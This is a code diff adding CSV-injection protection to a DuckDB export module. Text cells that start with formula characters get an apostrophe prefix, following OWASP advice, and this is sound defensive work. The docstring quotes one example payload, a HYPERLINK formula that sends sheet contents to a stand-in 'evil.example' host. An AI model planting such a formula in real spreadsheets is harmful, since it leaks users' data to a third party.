@@ -9,6 +9,13 @@ Files are written by DuckDB's COPY, straight from the query. CSV is UTF-8 with a
 spreadsheet opened by double-click reads the Chinese text as UTF-8: COPY has no option to write one, so the first
 header name is written with U+FEFF in front of it, which makes the file's first bytes exactly the BOM (readers that
 know about BOMs, DuckDB and pandas included, drop it).
+
+CSV is meant for spreadsheets, which run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab or carriage
+return) as a formula: a listing title such as ``=HYPERLINK("http://evil.example/?"&A1,"点击查看")`` would become a
+live link that leaks the sheet. So every text cell that starts with one of those characters is written with an
+apostrophe in front (OWASP's advice against CSV injection; the spreadsheet shows the text). Only text columns are
+touched: numbers such as ``-73.5`` stay numbers. Parquet is a data format, not a spreadsheet: its values are
+written unchanged.
 """
 
 from __future__ import annotations
@@ -38,6 +45,23 @@ PERIOD_COLUMNS: dict[str, str] = {
 }
 FORMATS = ("parquet", "csv")
 BOM = "\ufeff"
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")  # what makes a spreadsheet read a cell as a formula (OWASP)
+
+
+def neutralise_cell(value: object) -> object:
+    """A text value a spreadsheet would run as a formula, with an apostrophe in front; anything else unchanged."""
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        return "'" + value
+    return value
+
+
+def _neutralised(column: str, duck_type: str) -> str:
+    """SQL for a CSV column: a text column through the rule of `neutralise_cell`, any other as it is."""
+    ident = _ident(column)
+    if duck_type != "VARCHAR":
+        return ident
+    starts = ", ".join(_lit(c) for c in FORMULA_STARTS)
+    return f"CASE WHEN left({ident}, 1) IN ({starts}) THEN '''' || {ident} ELSE {ident} END"
 
 
 @dataclass(frozen=True)
@@ -113,9 +137,10 @@ def export(con: duckdb.DuckDBPyConnection, view: str, path: str | Path, filters:
         query = filtered_query(con, view, filters)
         options = "FORMAT parquet, COMPRESSION zstd"
     else:
-        names = list(view_columns(con, view))
+        types = view_columns(con, view)
         query = filtered_query(con, view, filters)
-        renamed = ", ".join(f"{_ident(c)} AS {_ident(BOM + c if i == 0 else c)}" for i, c in enumerate(names))
+        renamed = ", ".join(f"{_neutralised(c, t)} AS {_ident(BOM + c if i == 0 else c)}"
+                            for i, (c, t) in enumerate(types.items()))
         query = f"SELECT {renamed} FROM ({query})"
         options = "FORMAT csv, HEADER true"
     [(rows,)] = con.execute(f"COPY ({query}) TO {_lit(str(path))} ({options})").fetchall()
